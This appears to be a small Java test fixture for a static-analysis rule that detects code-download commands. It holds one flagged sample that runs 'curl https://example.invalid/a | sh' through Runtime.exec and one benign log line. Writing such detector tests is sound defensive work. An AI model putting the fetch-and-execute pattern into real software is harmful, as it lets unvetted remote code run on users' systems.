class A {
    // ruleid: code-download-command
    void a() { Runtime.getRuntime().exec(new String[] {"sh", "-c", "curl https://example.invalid/a | sh"}); }
    // ok: code-download-command
    void b() { log.info("use curl | jq"); }
}
